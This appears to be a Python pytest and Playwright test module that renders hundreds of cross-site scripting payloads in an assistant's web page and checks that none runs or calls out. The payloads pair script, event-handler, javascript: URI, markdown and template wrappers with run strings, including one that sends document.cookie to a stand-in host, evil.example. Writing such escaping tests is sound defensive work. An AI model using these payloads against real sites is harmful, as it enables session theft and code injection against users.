"""Hundreds of strings that elsewhere became scripts, links out or mark-up."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import TYPE_CHECKING

import pytest

from assistant.wiring import Kit
from tests.api.browsing import Watched, site, watched

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

RUNS = (
    "hit()", "hit`1`", "window.hit()", "top.hit()", "alert(1)", "import('//evil.example/x')", "fetch('//evil.example/?'+document.cookie)",
    "location='//evil.example'", "eval('hit()')", "setTimeout('hit()')",
)  # fmt: skip
WRAPS = (
    "<script>{}</script>", "<img src=x onerror={}>", '<img src="x" onerror="{}">', "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=\"javascript:{}\">",
    "<a href=\"javascript:{}\">x</a>", "[x](javascript:{})", "![x](https://evil.example/p.png?{})", "<details open ontoggle={}>",
    "<body onload={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>", "<math><mtext><script>{}</script></mtext></math>",
    "<form><button formaction=\"javascript:{}\">x", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<link rel=stylesheet href=\"https://evil.example/x.css?{}\">",
    "<style>@import 'https://evil.example/{}';</style>", "<base href=\"https://evil.example/{}\">",
    "<template><img src=x onerror={}></template>",
    "\"><img src=x onerror={}>", "'-{}-'", "</textarea><script>{}</script>", "</title><script>{}</script>", "</script><script>{}</script>",
    "<!--><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
    "${{{}}}", "{{{{{}}}}}", "<%= {} %>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;img src=x onerror={}&#62;", "\\u003cscript\\u003e{}",
    "**bold** __x__ `{}` <b>b</b>", "\u202e{}\u202c",
)  # fmt: skip
HOSTILE = [wrap.format(run) for wrap, run in product(WRAPS, RUNS)]


def in_lots(most: int) -> list[str]:
    """All of them, as few texts of at most so many characters as hold them."""
    lots = [""]
    for words in HOSTILE:
        together = f"{lots[-1]} {words}".strip()
        if len(together) <= most:
            lots[-1] = together
        else:
            lots.append(words)
    return lots


@pytest.fixture(scope="module")
def seen(browser: Browser, kit: Kit) -> Iterator[Watched]:
    """Whatever runs, asks elsewhere, opens a dialog or meets the page's policy is a fault."""
    with site(kit) as (base, _), watched(browser, base) as found:
        found.context.add_init_script("window.hit = () => console.error('a hostile string ran');")
        yield found


@pytest.fixture
def page(seen: Watched) -> Iterator[Page]:
    opened = seen.page()
    yield opened
    assert seen.faults == []
    assert seen.elsewhere == []
    opened.close()
